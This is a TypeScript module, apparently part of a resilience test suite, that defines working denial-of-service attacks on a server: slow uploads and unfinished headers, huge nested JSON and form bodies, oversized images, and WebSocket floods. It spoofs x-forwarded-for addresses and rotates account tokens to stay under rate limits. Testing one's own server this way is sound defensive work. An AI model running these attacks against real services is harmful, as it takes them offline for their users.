/** Cheap requests that cost a server much, each repeated by several callers until the time is over. */
import { setTimeout as sleep } from 'node:timers/promises';
import sharp from 'sharp';
import { WebSocket } from 'ws';
import { head, rawCall, rawReply, type RawCall } from '../../support/raw-http.ts';

export interface Target {
  url: string;
  /** Values of the header `authorization`, of several accounts. */
  attackers: readonly string[];
  isOver(): boolean;
}
/** How often each status was answered, where that tells something. */
type Answers = Record<number, number>;
type Attack = (target: Target) => Promise<Answers | void>;

const FORM = 'application/x-www-form-urlencoded';
const MULTIPART = 'multipart/form-data; boundary=edge';
const PART = '--edge\r\ncontent-disposition: form-data; name="file"; filename="a.png"\r\n\r\n';

/** Several callers who do the same again and again. */
const crowd = (size: number, isOver: () => boolean, act: (who: number, turn: number) => Promise<unknown>) =>
  Promise.all(
    Array.from({ length: size }, async (_, who) => {
      for (let turn = 0; !isOver(); turn += 1) await act(who, turn);
    }),
  );
const addressOf = (who: number) => ({ 'x-forwarded-for': `10.3.0.${who % 200}` });

function callsOf({ url, attackers }: Target) {
  const tokenOf = (who: number): string => attackers[who % attackers.length] ?? '';
  const post = (path: string, type: string, body: string | Buffer, more: Record<string, string>) =>
    rawReply(
      url,
      Buffer.concat([
        Buffer.from(head(`POST ${path}`, { 'content-type': type, 'content-length': body.length, ...more })),
        Buffer.from(body),
      ]),
    );
  return { tokenOf, post };
}

export const attacks = {
  'slow uploads': async (target) => {
    const { tokenOf } = callsOf(target);
    const calls = await Promise.all(
      Array.from({ length: 48 }, (_, who) =>
        rawCall(
          target.url,
          head('POST /api/uploads', {
            'content-type': MULTIPART,
            'content-length': 60_000_000,
            authorization: tokenOf(who),
            ...addressOf(who),
          }),
        ),
      ),
    );
    calls.forEach(({ send }) => send(PART));
    while (!target.isOver()) {
      calls.forEach(({ send }) => send('x'.repeat(100)));
      await sleep(500);
    }
    calls.forEach(({ socket }: RawCall) => socket.destroy());
  },

  'unfinished heads': async ({ url, isOver }) => {
    const calls = await Promise.all(Array.from({ length: 400 }, () => rawCall(url, 'GET / HTTP/1.1\r\nhost: a\r\n')));
    while (!isOver()) await sleep(100);
    calls.forEach(({ socket }) => socket.destroy());
  },

  'nested and wide JSON': async (target) => {
    const { tokenOf, post } = callsOf(target);
    const bodies = [
      `{"a":[${'[],'.repeat(2_600_000)}[]]}`,
      '['.repeat(8_000_000),
      JSON.stringify(Object.fromEntries(Array.from({ length: 500_000 }, (_, at) => [`k${at}`, 1]))),
    ];
    await crowd(4, target.isOver, (who, turn) =>
      post(turn % 2 ? '/api/login' : '/api/user/addresses', 'application/json', bodies[turn % bodies.length] ?? '', {
        ...addressOf(turn),
        ...(who % 2 === 0 && { authorization: tokenOf(who) }),
      }),
    );
  },

  'forms of many keys': async (target) => {
    const { tokenOf, post } = callsOf(target);
    const bodies = [
      Array.from({ length: 20_000 }, (_, at) => `a[4999][b${at}]=1`).join('&'),
      Array.from({ length: 20_000 }, (_, at) => `a[${at % 5_000}][b${at}]=1`).join('&'),
      'a[4999][4999][4999][4999][4999][4999][4999][4999]=1&'.repeat(19_000),
    ];
    await crowd(4, target.isOver, async (who, turn) => {
      await post('/api/user/addresses', FORM, bodies[turn % bodies.length] ?? '', {
        ...addressOf(turn),
        authorization: tokenOf(who),
      });
      await sleep(100); // ten a second each are what the limit of a session lets through
    });
  },

  'large pictures': async (target) => {
    const { tokenOf, post } = callsOf(target);
    const blank = () =>
      sharp({ create: { width: 5_000, height: 5_000, channels: 3, background: '#000' }, limitInputPixels: false });
    const pictures = await Promise.all([blank().gif().toBuffer(), blank().webp().toBuffer(), blank().png().toBuffer()]);
    const bodies = pictures.map((bytes) => Buffer.concat([Buffer.from(PART), bytes, Buffer.from('\r\n--edge--\r\n')]));
    const answers: Answers = {};
    await crowd(24, target.isOver, async (who, turn) => {
      const { status } = await post('/api/uploads', MULTIPART, bodies[turn % bodies.length] ?? Buffer.alloc(0), {
        authorization: tokenOf(who),
        ...addressOf(who),
      });
      answers[status] = (answers[status] ?? 0) + 1;
      if (status !== 200) await sleep(500);
    });
    return answers;
  },

  'floods of frames': async (target) => {
    const { tokenOf } = callsOf(target);
    await crowd(20, target.isOver, async (who) => {
      const socket = new WebSocket(`${target.url.replace('http', 'ws')}/ws`, { headers: addressOf(who) });
      socket.on('error', () => {});
      await new Promise<void>((resolve) => {
        socket.on('close', () => resolve());
        socket.on('open', () => {
          const token = JSON.stringify({ type: 'auth', provider: 'users', token: tokenOf(who) });
          for (let count = 0; count < 2_000; count += 1) socket.send(count % 2 ? 'x'.repeat(8_000) : token);
        });
      });
    });
  },
} satisfies Record<string, Attack>;

export type AttackName = keyof typeof attacks;
